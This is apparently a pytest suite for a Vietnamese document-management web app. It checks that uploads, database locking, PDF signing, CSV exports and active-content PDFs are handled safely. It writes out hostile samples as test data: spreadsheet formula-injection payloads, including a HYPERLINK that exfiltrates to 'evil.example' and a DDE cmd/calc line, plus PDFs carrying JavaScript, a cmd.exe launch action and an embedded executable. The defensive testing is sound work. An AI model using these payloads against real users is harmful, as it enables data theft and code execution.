"""Attacks on uploads, the database under load, signing, exports and active content (issue 10, section 6),
each performed through the web client as the attacker would, on both databases."""

from __future__ import annotations

import contextlib
import csv
import io
import sqlite3
import threading
from collections.abc import Iterator
from typing import Any

import pytest
from sqlalchemy import func, select, text
from sqlalchemy.orm import Session

from docflow import create_app
from docflow.models import Document, DocumentKind, DocumentVersion, Role, User
from docflow.pdfcheck import PdfInfo
from docflow.services import documents as doc_service
from docflow.services import outgoing as outgoing_service
from docflow.services.demo import DEMO_PASSWORD
from docflow.services.documents import StoredPdf, UploadedFile
from tests.conftest import SIGNING_PIN, WebClient, is_postgres, pdf_bytes
from tests.services.registers.test_registers import YEAR, at, register_incoming
from tests.web.test_outgoing_web import _active, _follow, _switch, people  # noqa: F401 - fixture


def raw_pdf(*objects: bytes) -> bytes:
    """A hand-made PDF of the given objects (1 is the catalogue) with a classic cross-reference table."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def one_page_pdf(catalogue_extra: bytes = b"", page_extra: bytes = b"", count: int = 1, *more: bytes) -> bytes:
    return raw_pdf(b"<< /Type /Catalog /Pages 2 0 R " + catalogue_extra + b" >>",
                   b"<< /Type /Pages /Kids [3 0 R] /Count %d >>" % count,
                   b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page_extra + b" >>", *more)


BILLION_PAGES = one_page_pdf(count=1_000_000_000)
WITH_JAVASCRIPT = one_page_pdf(b"/Names << /JavaScript 4 0 R >>", b"", 1,
                               b"<< /Names [(run) << /S /JavaScript /JS (app.alert('x')) >>] >>")
WITH_LAUNCH = one_page_pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>")
WITH_EMBEDDED_FILE = one_page_pdf(b"", b"/Annots [4 0 R]", 1,
                                  b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 5 0 R >>",
                                  b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
                                  b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream")


def _upload(client: WebClient, content: bytes, summary: str = "Về việc kiểm tra tệp tải lên") -> Any:
    data = {"kind": "internal", "doc_type": "cong_van", "summary": summary, "issuing_body": "UBND quận Thử Nghiệm",
            "urgency": "normal", "confidentiality": "normal", "file": (io.BytesIO(content), "van-ban.pdf")}
    return client.post("/documents/new", data, content_type="multipart/form-data")


def _documents(db_session: Session) -> int:
    return db_session.execute(select(func.count(Document.id))).scalar_one()


def _blobs(store: Any) -> set[str]:
    return {p.name for p in store.root.glob("??/??/*")}


def test_a_pdf_declaring_a_billion_pages_is_refused_with_a_message_and_nothing_is_stored(
        client, db_session, make_user, store):
    client.login(make_user(Role.CLERK))
    before, blobs = _documents(db_session), _blobs(store)

    response = _upload(client, BILLION_PAGES)

    assert response.status_code == 400
    assert "quá nhiều trang" in response.get_data(as_text=True)
    assert _documents(db_session) == before and _blobs(store) == blobs


def test_a_pdf_with_more_real_pages_than_the_limit_is_refused_at_incoming_registration(
        client, db_session, make_user, store, app):
    client.login(make_user(Role.CLERK))
    limit = app.extensions["docflow.settings"].uploads.max_pages
    before, blobs = _documents(db_session), _blobs(store)

    response = client.post("/incoming/new", {
        "doc_type": "cong_van", "summary": "Về việc hồ sơ quá dày", "issuing_body": "UBND quận Thử Nghiệm",
        "urgency": "normal", "confidentiality": "normal",
        "file": (io.BytesIO(pdf_bytes(pages=limit + 1)), "day.pdf")}, content_type="multipart/form-data")

    assert response.status_code == 400
    assert f"quá nhiều trang (hơn {limit} trang)" in response.get_data(as_text=True)
    assert _documents(db_session) == before and _blobs(store) == blobs


# -- a busy database --------------------------------------------------------------------------------------

@pytest.fixture
def impatient_app(committed_app: Any) -> Iterator[Any]:
    """A second app process on the committed database that waits one second for a lock, not thirty."""
    settings = committed_app.extensions["docflow.settings"]
    app = create_app({"app": {"mode": "testing", "data_dir": str(settings.app.data_dir),
                              "keys_dir": str(settings.app.keys_dir)},
                      "database": {"url": settings.database_url, "lock_timeout_seconds": 1}})
    yield app
    app.extensions["docflow.engine"].dispose()


@pytest.fixture
def clerks_document(committed_app: Any) -> int:
    engine, store = committed_app.extensions["docflow.engine"], committed_app.extensions["docflow.store"]
    with Session(engine) as s, s.begin():
        clerk = s.execute(select(User).where(User.username == "vanthu")).scalar_one()
        document = doc_service.upload_document(
            s, actor=clerk, store=store, max_bytes=10 ** 6,
            data=doc_service.DocumentInput(kind=DocumentKind.INTERNAL, doc_type="cong_van",
                                           summary="Về việc thử khi hệ thống bận", department_id=None,
                                           issuing_body="UBND"),
            upload=UploadedFile(io.BytesIO(pdf_bytes("busy")), "busy.pdf"))
        return document.id


def _hold_write_lock(committed_app: Any, document_id: int) -> Any:
    """Another process's long write: SQLite's write lock (BEGIN IMMEDIATE), or PostgreSQL's row lock."""
    if is_postgres():
        connection = committed_app.extensions["docflow.engine"].connect()
        connection.begin()
        connection.execute(text("SELECT id FROM documents WHERE id = :id FOR UPDATE"), {"id": document_id})
        return connection
    path = committed_app.extensions["docflow.engine"].url.database
    connection = sqlite3.connect(path, isolation_level=None, check_same_thread=False)
    connection.execute("BEGIN IMMEDIATE")
    return connection


def test_a_busy_database_answers_503_with_retry_after_and_changes_nothing(committed_app, impatient_app,
                                                                         clerks_document):
    client = WebClient(impatient_app.test_client())
    assert client.login("vanthu", DEMO_PASSWORD).status_code == 302
    holder = _hold_write_lock(committed_app, clerks_document)
    # Before the fix PostgreSQL waited for ever: let go after a while, so that the test fails instead of hanging.
    release = threading.Timer(20, holder.rollback)
    release.start()
    try:
        response = client.post(f"/documents/{clerks_document}/versions",
                               {"file": (io.BytesIO(pdf_bytes("busy-v2")), "v2.pdf")},
                               content_type="multipart/form-data")
        as_json = client.post(f"/documents/{clerks_document}/versions",
                              {"file": (io.BytesIO(pdf_bytes("busy-v3")), "v3.pdf")},
                              content_type="multipart/form-data", headers={"Accept": "application/json"})
    finally:
        release.cancel()
        holder.rollback()
        holder.close()

    assert response.status_code == 503 and response.headers["Retry-After"] == "5"
    assert "Hệ thống đang bận" in response.get_data(as_text=True)
    assert as_json.status_code == 503 and as_json.get_json()["status"] == 503
    with Session(committed_app.extensions["docflow.engine"]) as s:
        versions = s.execute(select(func.count(DocumentVersion.id)).where(
            DocumentVersion.document_id == clerks_document)).scalar_one()
    assert versions == 1


# -- signing a malformed stored PDF -----------------------------------------------------------------------

def _stored_draft(db_session: Session, store: Any, people: dict[str, Any], content: bytes,
                  info: PdfInfo | None = None) -> int:
    """A draft whose file was stored without today's upload check (as files stored before it were), or with
    the check's findings ``info``."""
    stored = StoredPdf(sha256=store.put_bytes(content), size=len(content), info=info or PdfInfo(page_count=1))
    data = outgoing_service.DraftInput(doc_type="quyet_dinh", summary="Về việc thành lập tổ công tác",
                                       signer_id=people["leader"].id,
                                       recipient_department_ids=(people["culture"].id,))
    document = outgoing_service.create_draft(db_session, actor=people["drafter"], data=data, store=store,
                                             max_bytes=10 ** 7,
                                             upload=UploadedFile(io.BytesIO(b""), "du-thao.pdf", stored=stored))
    return document.id


# The second one's cross-reference table points into the middle of objects: pypdf repairs that, pyHanko
# (which signs) does not.
@pytest.mark.parametrize("content", [BILLION_PAGES, BILLION_PAGES.replace(b"<< /Type /Catalog", b"<<  /Type /Catalog")],
                         ids=["count-a-billion", "broken-cross-references"])
def test_signing_a_malformed_stored_pdf_answers_a_clear_message(client, db_session, people, store, content):
    document_id = _stored_draft(db_session, store, people, content)
    client.login(people["drafter"])
    _follow(client, client.post(f"/outgoing/{document_id}/route"))
    for reviewer in ("land_head", "office_head"):
        _switch(client, people[reviewer])
        _follow(client, client.post(f"/outgoing/{document_id}/steps/{_active(db_session, document_id).id}/approve"))
    _switch(client, people["leader"])

    def versions() -> int:
        return db_session.execute(select(func.count(DocumentVersion.id)).where(
            DocumentVersion.document_id == document_id)).scalar_one()
    before = versions()   # the draft, and the number and date fields the route's start added to it

    response = client.post(f"/outgoing/{document_id}/steps/{_active(db_session, document_id).id}/sign",
                           {"pin": SIGNING_PIN, "version": str(before)})

    page = _follow(client, response)
    assert "bị hỏng hoặc sai cấu trúc nên không ký được" in page
    assert versions() == before


# -- register exports -------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
            "-2+3"]


def test_register_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(
        client, db_session, org, make_user, make_document):
    clerk = make_user(Role.CLERK)
    for n, formula in enumerate(FORMULAS):
        # the number and symbol and the issuing body lead their cells; the trích yếu follows the type name
        register_incoming(db_session, org, make_document(clerk, summary=formula, number_symbol=formula,
                                                         issuing_body=formula), received_at=at(n + 1))
    client.login(clerk)

    response = client.get(f"/registers/{YEAR}/incoming/export.csv")

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert {"'" + formula for formula in FORMULAS} <= set(cells)


# -- active content ---------------------------------------------------------------------------------------

@pytest.mark.parametrize(("content", "flag"), [(WITH_JAVASCRIPT, "javascript"), (WITH_LAUNCH, "launch"),
                                               (WITH_EMBEDDED_FILE, "embedded_files")])
def test_a_pdf_with_active_content_is_accepted_flagged_and_only_served_as_a_sandboxed_attachment(
        client, db_session, make_user, content, flag):
    client.login(make_user(Role.CLERK))

    response = _upload(client, content)

    assert response.status_code == 302
    document_id = int(response.location.rstrip("/").rsplit("/", 1)[1])
    version = db_session.execute(select(DocumentVersion).where(DocumentVersion.document_id == document_id)
                                 ).scalar_one()
    assert version.active_flags == (flag,)
    page = client.get(f"/documents/{document_id}").get_data(as_text=True)
    assert 'data-testid="active-content-warning"' in page and f'data-flags="{flag}"' in page
    assert "Tệp PDF này có nội dung chủ động" in page and 'data-testid="pdf-frame"' not in page
    for url in (f"/documents/{document_id}/file", f"/documents/{document_id}/versions/1/download"):
        served = client.get(url)
        assert served.status_code == 200 and served.get_data() == content
        assert served.headers["Content-Disposition"].startswith("attachment")
        assert served.headers["Content-Security-Policy"] == "sandbox"
        assert served.headers["X-Content-Type-Options"] == "nosniff"


def test_a_plain_pdf_is_still_shown_inline(client, make_user):
    client.login(make_user(Role.CLERK))
    response = _upload(client, pdf_bytes("plain"))
    document_id = int(response.location.rstrip("/").rsplit("/", 1)[1])
    page = client.get(f"/documents/{document_id}").get_data(as_text=True)
    assert 'data-testid="pdf-frame"' in page and "active-content-warning" not in page
    assert client.get(f"/documents/{document_id}/file").headers["Content-Disposition"].startswith("inline")


def test_a_version_from_someone_who_may_not_change_the_document_is_refused_before_its_file_is_kept(
        client, db_session, make_user, make_department, make_document, store):
    # Uploads are now checked and stored before the transaction: the permission is asked first.
    document = make_document(make_user(Role.CLERK))
    client.login(make_user(Role.OFFICIAL, department=make_department()))
    blobs = _blobs(store)

    response = client.post(f"/documents/{document.id}/versions",
                           {"file": (io.BytesIO(pdf_bytes("intruder")), "v2.pdf")}, content_type="multipart/form-data")

    assert response.status_code == 403 and _blobs(store) == blobs


@pytest.mark.parametrize("url", ["/documents/new", "/incoming/new"])
def test_an_upload_is_parsed_before_the_write_transaction_begins(client, make_user, monkeypatch, url):
    from docflow import db, pdfcheck
    inside: list[bool] = []
    parsed_inside: list[bool] = []
    real_transaction = db.transaction

    @contextlib.contextmanager
    def watched_transaction() -> Iterator[Session]:
        with real_transaction() as session:
            inside.append(True)
            try:
                yield session
            finally:
                inside.pop()

    def watched_check(path: Any, limits: Any = pdfcheck.ParseLimits(), **options: Any) -> PdfInfo:
        parsed_inside.append(bool(inside))
        return pdfcheck.check_pdf(path, limits, **options)
    monkeypatch.setattr(db, "transaction", watched_transaction)
    monkeypatch.setattr(doc_service.uploads, "check_pdf", watched_check)
    client.login(make_user(Role.CLERK))

    response = client.post(url, {"kind": "internal", "doc_type": "cong_van", "summary": "Về việc thử khóa ghi",
                                 "issuing_body": "UBND quận Thử Nghiệm", "urgency": "normal",
                                 "confidentiality": "normal", "file": (io.BytesIO(pdf_bytes("lock")), "a.pdf")},
                           content_type="multipart/form-data")

    assert response.status_code == 302 and parsed_inside == [False]


def test_the_incoming_page_warns_instead_of_showing_a_pdf_with_javascript(client, make_user):
    client.login(make_user(Role.CLERK))
    response = client.post("/incoming/new", {
        "doc_type": "cong_van", "summary": "Về việc tệp có mã chạy", "issuing_body": "UBND quận Thử Nghiệm",
        "urgency": "normal", "confidentiality": "normal", "file": (io.BytesIO(WITH_JAVASCRIPT), "js.pdf")},
        content_type="multipart/form-data")
    assert response.status_code == 302
    page = client.get(response.location).get_data(as_text=True)
    assert 'data-flags="javascript"' in page and 'data-testid="pdf-frame"' not in page


def test_the_verify_page_refuses_a_pdf_declaring_a_billion_pages_with_a_message(client, make_user):
    client.login(make_user(Role.AUDITOR))
    response = client.post("/verify", {"file": (io.BytesIO(BILLION_PAGES), "x.pdf")},
                           content_type="multipart/form-data")
    assert response.status_code == 400 and "quá nhiều trang" in response.get_data(as_text=True)


def test_a_drafts_active_content_stays_flagged_on_the_version_its_route_adds(client, db_session, people, store):
    # The route's start adds the number and date fields as an incremental update, which keeps the script.
    document_id = _stored_draft(db_session, store, people, WITH_JAVASCRIPT,
                                PdfInfo(page_count=1, active_content=("javascript",)))
    client.login(people["drafter"])

    _follow(client, client.post(f"/outgoing/{document_id}/route"))

    versions = db_session.execute(select(DocumentVersion).where(DocumentVersion.document_id == document_id)
                                  .order_by(DocumentVersion.number)).scalars().all()
    assert len(versions) == 2 and [v.active_flags for v in versions] == [("javascript",), ("javascript",)]
    served = client.get(f"/documents/{document_id}/file")
    assert served.headers["Content-Disposition"].startswith("attachment")
    assert served.headers["Content-Security-Policy"] == "sandbox"
